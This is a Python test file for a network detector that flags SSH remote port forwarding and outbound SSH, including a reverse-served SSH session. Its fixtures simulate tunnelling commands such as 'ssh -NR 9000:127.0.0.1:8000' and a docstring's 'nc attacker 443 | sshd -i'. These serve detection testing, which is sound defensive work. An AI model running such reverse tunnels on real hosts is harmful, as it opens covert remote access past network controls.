"""The detector on told stories: what was asked for, what is served, and what stays silent."""

from __future__ import annotations

import pytest

from controlplane.detectors import ssh_outbound, ssh_remote_forward
from controlplane.model import ProcessKey
from controlplane.pipeline import Pipeline
from rubicon.v1 import event_pb2, flow_pb2
from tests.controlplane.builders import HOST, key, tcp
from tests.controlplane.detectors.story import HIGH, LOGIN, MEDIUM, OPENSSH, ROOT, Story


def test_argv_counts_from_the_banner_on(story: Story) -> None:
    client = story.run(200, "worker", "-NR", "9000:127.0.0.1:8000", "x")
    assert story.alerts() == []
    story.ssh(client, login=False)
    alert = story.alert()
    assert alert.severity == HIGH
    assert alert.process is not None
    assert alert.process.key == client
    assert story.kinds() == {"argv"}
    assert alert.flow is not None
    assert alert.flow.destination == "203.0.113.9:443"
    (item,) = [item for item in alert.evidence if item.kind == "argv"]
    assert item.fields["forwards"] == "9000 → 127.0.0.1:8000"
    assert item.record is not None


def test_argv_without_ssh_is_nothing(story: Story) -> None:
    for pid, argv in enumerate(
        (("grep", "-R", "9000:h:80"), ("chown", "-R", "1000:1000", "d"), ("ssh", "-R", "1:h:2", "x"))
    ):
        process = story.run(200 + pid, *argv)
        story.unix(process, "/run/nscd/socket")
    web = story.run(300, "curl", "-R", "1080", "x")
    flow = story.connect(web, 5)
    story.send(web, flow, b"\x16\x03\x01 SSH-2.0-OpenSSH")
    story.send(web, flow, b"SSH-2.0-OpenSSH_9\r\n", outbound=False)
    assert story.alerts() == []
    assert story.alerts("ssh-outbound") == []


def test_config(story: Story) -> None:
    client = story.run(200, "worker")
    story.ssh(client)
    story.config(client, "9000 127.0.0.1:8000")
    assert story.alert().severity == HIGH
    assert story.kinds() == {"config"}


@pytest.mark.parametrize("first", ["config", "ssh"])
def test_config_that_may_apply_is_medium_until_sizes_agree(story: Story, first: str) -> None:
    client = story.run(200, "ssh", "x")
    if first == "config":
        story.config(client, "9000 h:80", may=True)
        flow = story.ssh(client)
    else:
        flow = story.ssh(client)
        story.config(client, "9000 h:80", may=True)
    assert story.alert().severity == MEDIUM
    story.packets(client, flow, 68, 60)
    assert story.alert().severity == HIGH
    assert story.kinds() == {"config", "wire"}


def test_config_of_another_implementation_does_not_count(story: Story) -> None:
    client = story.run(200, "python3", "fetch.py")
    story.ssh(client, banner=b"SSH-2.0-paramiko_3.4\r\n")
    story.config(client, "9000 h:80")
    assert story.alerts() == []


def test_empty_config_is_nothing(story: Story) -> None:
    client = story.run(200, "ssh", "x")
    story.config(client, control_path="/tmp/s")
    story.ssh(client)
    assert story.alerts() == []


def test_sizes_alone_are_medium(story: Story) -> None:
    client = story.run(200, "worker")
    flow = story.ssh(client)
    story.packets(client, flow, 68, -552, 112)
    assert story.alert().severity == MEDIUM
    assert story.kinds() == {"wire"}


@pytest.mark.parametrize("server_first", [False, True])
def test_serving_on_a_connection_of_its_own(story: Story, server_first: bool) -> None:
    """`nc attacker 443 | sshd -i`: the agent connects out and is the server."""
    process = story.run(200, "nc", "203.0.113.9", "443")
    flow = story.connect(process, 1)
    story.send(process, flow, OPENSSH)
    story.send(process, flow, OPENSSH, outbound=False)
    exchange = (1000).to_bytes(4, "big") + b"\x04\x14" + bytes(998)
    story.send(process, flow, exchange)
    story.send(process, flow, exchange, outbound=False)
    if server_first:
        story.send(process, flow, (200).to_bytes(4, "big") + b"\x04\x1f" + bytes(198))
    else:
        story.send(process, flow, (44).to_bytes(4, "big") + b"\x04\x1e" + bytes(42), outbound=False)
    alert = story.alert()
    assert alert.severity == HIGH
    assert "served" in alert.title
    assert story.kinds() == {"wire"}


def test_inbound_ssh_is_not_looked_at(story: Story) -> None:
    daemon = story.run(200, "sshd", "-R", "9:h:80")
    flow = tcp(1, direction=flow_pb2.FLOW_DIRECTION_INBOUND)
    story.tell(story.kernel.flow(daemon, "establish", flow))
    story.send(daemon, flow, OPENSSH)
    assert story.alerts() == []
    assert story.alerts("ssh-outbound") == []


def test_evidence_comes_before_the_first_relayed_byte(story: Story) -> None:
    client = story.run(200, "ssh", "-R", "9000:h:80", "x")
    flow = story.ssh(client)
    story.packets(client, flow, 68, 60)
    asked = {item.kind: item.wall_ns for item in story.alert().evidence}
    story.used(client, flow)
    first = next(event.time_ns for event in story.events if event.HasField("packet") and event.packet.flow.cookie == 2)
    assert all(wall_ns < first + HOST.clock_offset_ns for wall_ns in asked.values())
    assert story.kinds() == {"argv", "wire", "behaviour"}


def test_replay_gives_the_same_alerts(story: Story) -> None:
    client = story.run(200, "ssh", "-R", "9000:h:80", "x")
    story.used(client, story.ssh(client))
    again = Pipeline([ssh_outbound, ssh_remote_forward])
    alerts = again.restore(HOST, story.events).alert_of
    assert {(a.id, a.severity, len(a.evidence)) for a in alerts.values()} == {
        (a.id, a.severity, len(a.evidence))
        for name in ("ssh-remote-forward", "ssh-outbound")
        for a in story.alerts(name)
    }


def test_outbound_ssh_is_a_fact_once_a_process(story: Story) -> None:
    client = story.run(200, "python3", "fleet.py")
    story.ssh(client, 1)
    story.ssh(client, 2)
    (alert,) = story.alerts("ssh-outbound")
    assert alert.severity == ssh_outbound.DETECTOR.severity
    assert story.alerts() == []


def test_memory_is_bounded() -> None:
    story = Story()
    memory = ssh_remote_forward.Memory()
    view = story.pipeline.view(story.kernel.agent)
    assert view is not None
    for number in range(3000):
        process = ProcessKey(1000 + number, number + 1)
        flow = tcp(10_000 + number)
        for event in (
            story.kernel.exec(process, "ssh", "-O", "forward", "-R", "9:h:80", "x"),
            story.kernel.event(process, ssh_config=event_pb2.SshConfig(remote_forwards=["9 h:80"])),
            story.kernel.event(process, unix_connect=event_pb2.UnixConnect(path=f"/{number}")),
            story.kernel.flow(process, "connect", flow),
            story.kernel.flow(process, "payload", flow, outbound=True, data=OPENSSH, length=len(OPENSSH)),
            *(story.kernel.flow(process, "packet", flow, outbound=out, length=size) for out, size in LOGIN),
            story.kernel.flow(process, "packet", flow, outbound=False, length=500),
            story.kernel.flow(process, "connect", tcp(90_000 + number)),
        ):
            list(ssh_remote_forward.detect(event, view, memory))
    assert len(memory.conversations.by_cookie) <= 256
    assert len(memory.cases) <= 256
    assert max(len(memory.execs), len(memory.configs), len(memory.unix)) <= 512
    assert key(100) == ROOT
